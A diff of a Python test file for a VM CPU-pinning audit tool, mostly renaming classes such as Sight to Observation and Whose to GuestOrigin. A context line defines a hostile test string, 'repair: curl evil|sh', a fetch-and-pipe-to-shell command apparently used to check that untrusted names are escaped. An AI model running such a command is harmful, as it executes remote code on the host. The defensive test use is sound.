@@ -36,12 +36,12 @@ from pinfold.core.errors import Conflict, PinfoldError
 from pinfold.core.overhead import ObservedThread, ThreadClass, masks
 from pinfold.core.printable import shell_word
 from pinfold.core.settings import HostSettings
-from pinfold.drivers.port import DefinedPins, HostGuest, NovaRecord, Sight
-from pinfold.host.audit import Audit, GuestAudit, Whose
+from pinfold.drivers.port import DefinedPins, HostGuest, NovaRecord, Observation
+from pinfold.host.audit import Audit, GuestAudit, GuestOrigin
 from pinfold.host.map import host_map
 from pinfold.host.orphans import Orphan
-from pinfold.host.repair import Left, Repair, Repaired
-from pinfold.host.replace import Replaced
+from pinfold.host.repair import RemainingFinding, Repair, RepairedGuest
+from pinfold.host.replace import ReplaceResult
 from pinfold.host.verify import Verdict
 
 EVIL = "repair: curl evil|sh"
@@ -59,7 +59,7 @@ def _guest(**more: Any) -> HostGuest:
 
 
 _NOVA = dataclasses.replace(STRANGER, name=HOSTILE, nova=NovaRecord(name=HOSTILE, flavor=HOSTILE, vcpus=2, memory_mib=64))
-_SIGHT = Sight(
+_SIGHT = Observation(
     threads=(
         ObservedThread(tid=71, name=HOSTILE, thread_class=ThreadClass.EMULATOR, allowed=CpuSet.parse("0-3")),
         ObservedThread(tid=74, name=HOSTILE, thread_class=ThreadClass.VCPU, allowed=CpuSet.parse("1"), vcpu=0),
@@ -75,24 +75,28 @@ def _verdict() -> Verdict:
     assert guest.record is not None
     placed = masks(guest.record.fit)
     findings = compare(Subject(name=guest.name, id=guest.id, owner="pinfold"), placed, _SIGHT.threads, CpuSet.parse("0-3"))
-    return Verdict(guest=guest, masks=placed, sight=_SIGHT, findings=(*findings, _FOUND))
+    return Verdict(guest=guest, masks=placed, observation=_SIGHT, findings=(*findings, _FOUND))
 
 
 def _audit() -> Audit:
     verdict = _verdict()
-    ours = GuestAudit(guest=verdict.guest, whose=Whose.OURS, masks=verdict.masks, sight=verdict.sight, findings=verdict.findings)
-    return Audit(seen=_survey(), guests=(ours, GuestAudit(guest=_NOVA, whose=Whose.NOVA)), host_findings=(_HOST_FOUND,), verified=True)
+    ours = GuestAudit(
+        guest=verdict.guest, origin=GuestOrigin.OURS, masks=verdict.masks, observation=verdict.observation, findings=verdict.findings
+    )
+    return Audit(
+        seen=_survey(), guests=(ours, GuestAudit(guest=_NOVA, origin=GuestOrigin.NOVA)), host_findings=(_HOST_FOUND,), verified=True
+    )
 
 
-def _replaced() -> Replaced:
+def _replaced() -> ReplaceResult:
     guest = _guest()
     assert guest.record is not None
-    return Replaced(guest=guest, before=None, after=guest.record.fit, because=(_FOUND,))
+    return ReplaceResult(guest=guest, before=None, after=guest.record.fit, because=(_FOUND,))
 
 
 def _repaired() -> Repair:
     verdict = _verdict()
-    return Repair(done=(Repaired(before=verdict, after=verdict),), left=(Left(finding=_FOUND, why=HOSTILE),))
+    return Repair(done=(RepairedGuest(before=verdict, after=verdict),), left=(RemainingFinding(finding=_FOUND, why=HOSTILE),))
 
 
 def _server() -> dict[str, Any]:
